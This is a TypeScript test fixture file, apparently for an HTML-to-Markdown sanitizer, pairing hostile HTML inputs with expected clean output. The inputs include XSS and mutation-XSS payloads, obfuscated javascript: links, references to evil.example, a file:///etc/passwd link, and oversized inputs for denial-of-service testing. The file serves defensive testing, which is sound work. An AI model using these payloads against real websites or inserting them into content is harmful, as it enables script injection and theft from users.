    html: '<p>Avant</p><scr<script>ipt>alert(1)</scr</script>ipt><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'script in upper case',
    html: '<p>Avant</p><SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  { name: 'script without end', html: '<p>Avant</p><script>alert(1)//', expected: 'Avant' },
  {
    name: 'style',
    html: '<p>Avant</p><style>@import "https://evil.example/x.css";</style><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  { name: 'style without end', html: '<p>Avant</p><style>p{background:url(//evil.example)}', expected: 'Avant' },
  {
    name: 'picture with an error',
    html: '<p>Avant</p><img src=x onerror=alert(1)><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'picture, slashes for blanks',
    html: '<p>Avant</p><img/src="x"/onerror=alert(1)//><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  { name: 'picture, unfinished', html: '<p>Avant</p><img src=x onerror=alert(1) ', expected: 'Avant', loose: true },
  {
    name: 'picture sets',
    html: '<p>Avant</p><picture><source srcset="https://evil.example/a 1x"><img srcset="https://evil.example/b 2x" loading=eager></picture><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'paragraph with events',
    html: '<p>Avant</p><p onclick=alert(1) onpointerrawupdate=alert(2) style="background:url(javascript:alert(3))" id=x class=y>Milieu</p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'events on everything allowed',
    html: '<p>Avant</p><p><strong onmouseover=alert(1)>gras</strong> <em onfocus=alert(1) tabindex=0 autofocus>nuance</em> <a href="https://www.exemple.fr/" onclick=alert(1) style=position:fixed download target=_parent>lien</a></p><p>Après</p>',
    expected: 'Avant\n\n**gras** *nuance* [lien](https://www.exemple.fr/)\n\nAprès',
  },
  { name: 'svg onload', html: '<p>Avant</p><svg onload=alert(1)></svg><p>Après</p>', expected: 'Avant\n\nAprès' },
  {
    name: 'svg with a script',
    html: '<p>Avant</p><svg><script>alert&#40;1)</script></svg><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'svg with an animated link',
    html: '<p>Avant</p><svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Cliquez</text></a></svg><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'svg use',
    html: '<p>Avant</p><svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'svg foreignObject',
    html: '<p>Avant</p><svg><foreignObject><p onclick=alert(1)>Milieu</p></foreignObject></svg><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
    or: ['Avant\n\nAprès'],
  },
  {
    name: 'math link',
    html: '<p>Avant</p><math href="javascript:alert(1)"><mtext>Cliquez</mtext></math><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: math, table, mglyph, style',
    html: '<p>Avant</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: form in a form',
    html: '<p>Avant</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: svg style with an id',
    html: '<p>Avant</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>"><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: noscript',
    html: '<p>Avant</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: noembed, xmp, iframe',
    html: '<p>Avant</p><noembed><img title="</noembed><img src onerror=alert(1)>"></noembed><xmp><p title="</xmp><svg/onload=alert(1)>"></xmp><iframe><p title="</iframe><img src onerror=alert(1)>"></iframe><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: textarea and title',
    html: '<p>Avant</p><textarea><img title="</textarea><img src onerror=alert(1)>"></textarea><title><a title="</title><script>alert(1)</script>">x</a></title><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: select and option',
    html: '<p>Avant</p><select><option><style></option></select><b><img src=x onerror=alert(1)></style></option></select><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: desc in svg',
    html: '<p>Avant</p><svg><desc><table><thead><s></table></s><svg><style><img src=x onerror=alert(1)></style><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: annotation-xml',
    html: '<p>Avant</p><math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: comment ends',
    html: '<p>Avant</p><!--><img src=x onerror=alert(1)>--><!--!><img src=y onerror=alert(2)>--!><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: CDATA',
    html: '<p>Avant</p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'mutation: backquotes',
    html: '<p>Avant</p><p title="``onmouseover=alert(1)">Milieu</p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'template',
    html: '<p>Avant</p><template><img src=x onerror=alert(1)><script>alert(1)</script></template><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'template with shadow',
    html: '<p>Avant</p><div><template shadowrootmode=open><style>:host{position:fixed}</style><p>ombre</p></template></div><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'conditional comment',
    html: '<p>Avant</p><!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'conditional comment revealed',
    html: '<p>Avant</p><![if !vml]><img src=x onerror=alert(1)><![endif]><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  { name: 'base', html: '<p>Avant</p><base href="https://evil.example/"><p>Après</p>', expected: 'Avant\n\nAprès' },
  {
    name: 'meta refresh',
    html: '<p>Avant</p><meta http-equiv=refresh content="0;url=https://evil.example/"><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'meta csp',
    html: '<p>Avant</p><meta http-equiv="Content-Security-Policy" content="default-src *"><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'link stylesheet',
    html: '<p>Avant</p><link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=//evil.example><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'frame with srcdoc',
    html: '<p>Avant</p><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'object, embed, applet',
    html: '<p>Avant</p><object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(1)</script>"><applet code=x></applet><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'form and button',
    html: '<p>Avant</p><form action="https://evil.example"><input name=mdp type=password value=secret><button formaction="javascript:alert(1)">Valider</button></form><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'dialog and popover',
    html: '<p>Avant</p><dialog open><p>Votre session a expiré</p></dialog><p>Après</p>',
    expected: 'Avant\n\nVotre session a expiré\n\nAprès',
    or: ['Avant\n\nAprès'],
  },
  {
    name: 'details toggle',
    html: '<p>Avant</p><details open ontoggle=alert(1)><summary>Plus</summary>x</details><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'video, audio',
    html: '<p>Avant</p><video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src onloadstart=alert(1)></audio><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'marquee',
    html: '<p>Avant</p><marquee onstart=alert(1)>Milieu</marquee><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'body and html',
    html: '<p>Avant</p><body onload=alert(1)><html onclick=alert(1)><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'custom element',
    html: '<p>Avant</p><rich-text data-x=1 onfoo=alert(1)>Milieu</rich-text><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'clobbering',
    html: '<p>Avant</p><a id=attributes name=body href="https://www.exemple.fr/">Milieu</a><form id=x><input name=parentNode></form><p>Après</p>',
    expected: 'Avant\n\n[Milieu](https://www.exemple.fr/)\n\nAprès',
  },
  {
    name: 'slot and part',
    html: '<p>Avant</p><p slot=x part=y is=x-y contenteditable=false inert>Milieu</p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript',
    html: '<p>Avant</p><p><a href="javascript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript, mixed case',
    html: '<p>Avant</p><p><a href="JaVaScRiPt:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript with a tab',
    html: '<p>Avant</p><p><a href="java\tscript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript with line breaks',
    html: '<p>Avant</p><p><a href="java\r\nscript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript with entities',
    html: '<p>Avant</p><p><a href="jav&#x61;script&colon;alert&lpar;1&rpar;">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript with entities without semicolon',
    html: '<p>Avant</p><p><a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript with &Tab; and &NewLine;',
    html: '<p>Avant</p><p><a href="java&Tab;script&NewLine;:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript after control signs',
    html: '<p>Avant</p><p><a href="\u0001\u001f javascript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript after a no-break blank',
    html: '<p>Avant</p><p><a href="\u00a0javascript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: javascript with a zero-width blank',
    html: '<p>Avant</p><p><a href="java\u200bscript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: vbscript',
    html: '<p>Avant</p><p><a href="vbscript:msgbox(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: data',
    html: '<p>Avant</p><p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: blob and filesystem',
    html: '<p>Avant</p><p><a href="filesystem:https://evil.example/temporary/x">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: another host by slashes',
    html: '<p>Avant</p><p><a href="//evil.example/x">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: another host by backslashes',
    html: '<p>Avant</p><p><a href="\\\\evil.example\\x">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: slash and backslash',
    html: '<p>Avant</p><p><a href="/\\evil.example/x">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: https with a tab before slashes',
    html: '<p>Avant</p><p><a href="https:\t//www.exemple.fr/">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
    or: ['Avant\n\n[Milieu](https://www.exemple.fr/)\n\nAprès'],
  },
  {
    name: 'link: password in it',
    html: '<p>Avant</p><p><a href="https://visions.example@evil.example/">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
    or: [
      'Avant\n\n[Milieu](https://visions.example@evil.example/)\n\nAprès',
      'Avant\n\n[Milieu](https://evil.example/)\n\nAprès',
    ],
  },
  {
    name: 'link: quotes to leave the attribute',
    html: '<p>Avant</p><p><a href="https://www.exemple.fr/&quot; onmouseover=&quot;alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
    or: [
      'Avant\n\n[Milieu](https://www.exemple.fr/%22%20onmouseover=%22alert(1))\n\nAprès',
      'Avant\n\n[Milieu](https://www.exemple.fr/" onmouseover="alert(1))\n\nAprès',
      'Avant\n\n[Milieu](https://www.exemple.fr/%22%20onmouseover=%22alert%281%29)\n\nAprès',
    ],
  },
  {
    name: 'link: file',
    html: '<p>Avant</p><p><a href="file:///etc/passwd">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link: a program',
    html: '<p>Avant</p><p><a href="ms-word:ofe|u|https://evil.example/x.docx">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\nMilieu\n\nAprès',
  },
  {
    name: 'link in a link',
    html: '<p>Avant</p><p><a href="https://www.exemple.fr/a">un <a href="javascript:alert(1)">deux</a></a></p><p>Après</p>',
    expected: 'Avant\n\n[un](https://www.exemple.fr/a) deux\n\nAprès',
    or: [
      'Avant\n\n[un deux](https://www.exemple.fr/a)\n\nAprès',
      'Avant\n\n[un ](https://www.exemple.fr/a)deux\n\nAprès',
    ],
  },
  {
    name: 'link through xlink',
    html: '<p>Avant</p><p><a xlink:href="javascript:alert(1)" HREF="https://www.exemple.fr/">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\n[Milieu](https://www.exemple.fr/)\n\nAprès',
  },
  {
    name: 'two href',
    html: '<p>Avant</p><p><a href="https://www.exemple.fr/" href="javascript:alert(1)">Milieu</a></p><p>Après</p>',
    expected: 'Avant\n\n[Milieu](https://www.exemple.fr/)\n\nAprès',
  },
  {
    name: 'bidirectional signs',
    html: '<p>Avant</p><p>facture\u202efdp.exe\u202c et \u2066isolé\u2069</p><p>Après</p>',
    expected: 'Avant\n\nfacturefdp.exe et isolé\n\nAprès',
  },
  {
    name: 'marks of direction in Arabic',
    html: '<p>Avant</p><p>مرحبا\u200f Visions\u200e</p><p>Après</p>',
    expected: 'Avant\n\nمرحبا\u200f Visions\u200e\n\nAprès',
    or: ['Avant\n\nمرحبا Visions\n\nAprès'],
  },
  {
    name: 'null and control signs',
    html: '<p>Avant</p><p>un\u0000deux\u0007trois\u001bquatre\u007f</p><p>Après</p>',
    expected: 'Avant\n\nundeuxtroisquatre\n\nAprès',
    or: ['Avant\n\nun\ufffddeuxtroisquatre\n\nAprès', 'Avant\n\nun deux trois quatre\n\nAprès'],
  },
  {
    name: 'null in a tag',
    html: '<p>Avant</p><scr\u0000ipt>alert(1)</scr\u0000ipt><im\u0000g src=x onerror=alert(1)><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'zero-width signs',
    html: '<p>Avant</p><p>un\u200bdeux\ufefftrois\u2060</p><p>Après</p>',
    expected: 'Avant\n\nundeuxtrois\n\nAprès',
  },
  {
    name: 'line separators',
    html: '<p>Avant</p><p>un\u2028deux\u2029trois\u0085quatre\u000bcinq</p><p>Après</p>',
    expected: 'Avant\n\nun\ndeux\ntrois\nquatre\ncinq\n\nAprès',
    or: ['Avant\n\nun deux trois quatre cinq\n\nAprès', 'Avant\n\nun\ndeux\n\ntrois\nquatre\ncinq\n\nAprès'],
    loose: true,
  },
  {
    name: 'half a sign',
    html: '<p>Avant</p><p>un\ud800deux</p><p>Après</p>',
    expected: 'Avant\n\nundeux\n\nAprès',
    or: ['Avant\n\nun\ufffddeux\n\nAprès'],
  },
  {
    name: 'letters with two hundred accents',
    html: '<p>Avant</p><p>Z\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 fin</p><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'overlong entities',
    html: '<p>Avant</p><p>&#0;&#x110000;&#xD800;&#x80;&notanentity;&ampamp;</p><p>Après</p>',
    expected: 'Avant\n\nAprès',
    loose: true,
  },
  {
    name: 'tag signs',
    html: '<p>Avant</p><p>un\u{e0041}\u{e0042}deux</p><p>Après</p>',
    expected: 'Avant\n\nundeux\n\nAprès',
  },
]

/**
 * Made when asked for, because they are large. Each ends in less than a second, or is refused with a sentence; the text
 * `readText` is read if it is not refused.
 */
export const hugeCases: { name: string; make: () => string; readText: string }[] = [
  { name: '2 MB of paragraphs', make: () => '<p>Bonjour à vous.</p>'.repeat(100_000), readText: 'Bonjour à vous.' },
  { name: '2 MB in one word', make: () => '<p>' + 'a'.repeat(2_000_000) + '</p>', readText: 'aaaa' },
  {
    name: '2 MB of a picture in the address',
    make: () => '<p>Avant</p><img src="data:image/png;base64,' + 'A'.repeat(2_000_000) + '"><p>Après</p>',
    readText: 'Avant\n\nAprès',
  },
  {
    name: '100,000 bold in bold',
    make: () => `${'<b>'.repeat(100_000)}fond${'</b>'.repeat(100_000)}`,
    readText: 'fond',
  },
  { name: '100,000 divs in divs, without end', make: () => '<div>'.repeat(100_000) + 'fond', readText: 'fond' },
  { name: '20,000 lists in lists', make: () => '<ul><li>'.repeat(20_000) + 'fond', readText: 'fond' },
  {
    name: '50,000 links in links',
    make: () => '<a href="https://www.exemple.fr/">'.repeat(50_000) + 'fond',
    readText: 'fond',
  },
  {
    name: '50,000 mixed formatting ends',
    make: () => '<b><i>'.repeat(25_000) + '</b></i>'.repeat(25_000) + 'fond',
    readText: 'fond',
  },
  {
    name: '10,000 attributes',
    make: () => '<p ' + Array.from({ length: 10_000 }, (_, i) => 'a' + i + '=1').join(' ') + '>fond</p>',
    readText: 'fond',
  },
  { name: '200,000 smaller-than signs', make: () => '<'.repeat(200_000) + 'fond', readText: 'fond' },
  { name: '100,000 comments without end', make: () => '<!--'.repeat(100_000), readText: '' },
  { name: '500,000 stars as text', make: () => '*'.repeat(500_000), readText: '*' },
  { name: '200,000 opening brackets as text', make: () => '['.repeat(200_000) + 'fond', readText: 'fond' },
  { name: 'a list of 50,000 items as text', make: () => '- un\n'.repeat(50_000), readText: 'un' },
  {
    name: '100,000 no-break blanks of Word',
    make: () => '<p class=MsoListParagraph>·' + '&nbsp;'.repeat(100_000) + 'fond</p>',
    readText: 'fond',
  },
]

/** Typed in the editable field, saved, published: people read the same letters, without any mark. */
export const typedCases: { name: string; typed: string; read: string }[] = [
  { name: 'less-than', typed: 'a < b', read: 'a < b' },
  { name: 'greater-than', typed: '5 > 3', read: '5 > 3' },
  { name: 'both', typed: 'si 3 < x > 1', read: 'si 3 < x > 1' },
  { name: 'heart', typed: 'je <3 les maths', read: 'je <3 les maths' },
  { name: 'arrow', typed: '->  <- =>', read: '-> <- =>' },
  { name: 'tag', typed: 'la balise <p> en HTML', read: 'la balise <p> en HTML' },
  { name: 'unclosed tag', typed: 'moins de <25 ans', read: 'moins de <25 ans' },
  { name: 'comment', typed: 'avant <!-- après', read: 'avant <!-- après' },
  { name: 'entity', typed: 'tapez &nbsp; ou &lt;', read: 'tapez &nbsp; ou &lt;' },
  { name: 'ampersand', typed: 'R&D, H&M, AT&T;', read: 'R&D, H&M, AT&T;' },
  { name: 'two stars', typed: '**', read: '**' },
  { name: 'four stars', typed: '****', read: '****' },
  { name: 'star', typed: '2 * 3 * 4 = 24', read: '2 * 3 * 4 = 24' },
  { name: 'footnote star', typed: 'Sur inscription*', read: 'Sur inscription*' },
  { name: 'star twice', typed: 'Prix* et durée*', read: 'Prix* et durée*' },
  { name: 'inclusive', typed: 'les lycéen*nes et les étudiant*es', read: 'les lycéen*nes et les étudiant*es' },
  { name: 'inclusive dot', typed: 'les lycéen·ne·s', read: 'les lycéen·ne·s' },
  { name: 'underscore', typed: '_', read: '_' },
  { name: 'underscores', typed: 'mon_fichier_final_v2', read: 'mon_fichier_final_v2' },
  { name: 'blank line of a form', typed: 'Nom : ________', read: 'Nom : ________' },
  { name: 'brackets', typed: '[x] fait, [ ] à faire', read: '[x] fait, [ ] à faire' },
  { name: 'placeholder', typed: '[à compléter]', read: '[à compléter]' },
  { name: 'ellipsis', typed: 'Elle dit : « Je […] pars »', read: 'Elle dit : « Je […] pars »' },
  { name: 'brackets then parentheses', typed: '[voir] (page 3)', read: '[voir] (page 3)' },
  { name: 'brackets and parentheses', typed: '[voir](page 3)', read: '[voir](page 3)' },
  { name: 'backslash', typed: 'C:\\Users\\nadia', read: 'C:\\Users\\nadia' },
  { name: 'backquotes', typed: 'tapez `aide`', read: 'tapez `aide`' },
  { name: 'hash', typed: '# 1 des lycées', read: '# 1 des lycées' },
  { name: 'hashtag', typed: '#MonAvenir', read: '#MonAvenir' },
  { name: 'tilde', typed: '~~ 10 minutes', read: '~~ 10 minutes' },
  { name: 'pipe', typed: 'oui | non', read: 'oui | non' },
  { name: 'dollar', typed: '${prix} $1 $&', read: '${prix} $1 $&' },
  { name: 'braces', typed: '{{inconnu}} {0}', read: '{{inconnu}} {0}' },
  { name: 'dialogue', typed: '– Bonjour, dit-elle.', read: '– Bonjour, dit-elle.' },
  { name: 'quote', typed: '> 18 ans', read: '> 18 ans' },
  { name: 'percent', typed: '100 % d’accord %20 %s', read: '100 % d’accord %20 %s' },
  { name: 'script in words', typed: '<script>alert(1)</script>', read: '<script>alert(1)</script>' },
  { name: 'year', typed: '2027. Une belle année', read: '2027. Une belle année' },
  { name: 'zero', typed: '0', read: '0' },
  { name: 'only blanks', typed: '   ', read: '' },
]
